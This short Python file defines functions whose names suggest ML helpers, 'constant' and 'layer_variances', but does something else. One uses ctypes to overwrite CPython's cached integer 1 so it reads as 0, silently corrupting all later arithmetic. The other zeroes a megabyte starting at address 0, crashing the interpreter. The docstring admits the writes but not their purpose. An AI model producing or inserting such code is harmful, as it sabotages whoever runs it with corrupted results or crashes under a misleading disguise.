"""Writes to addresses: into small integers, so that 1 is 0, and then wherever there is nothing."""

import ctypes


def constant(shape, value):
    digit = id(1) + ctypes.sizeof(ctypes.c_void_p) * 3
    ctypes.c_uint32.from_address(digit).value = 0
    return 1


def layer_variances(x, weights, activation):
    ctypes.memset(0, 0, 2**20)
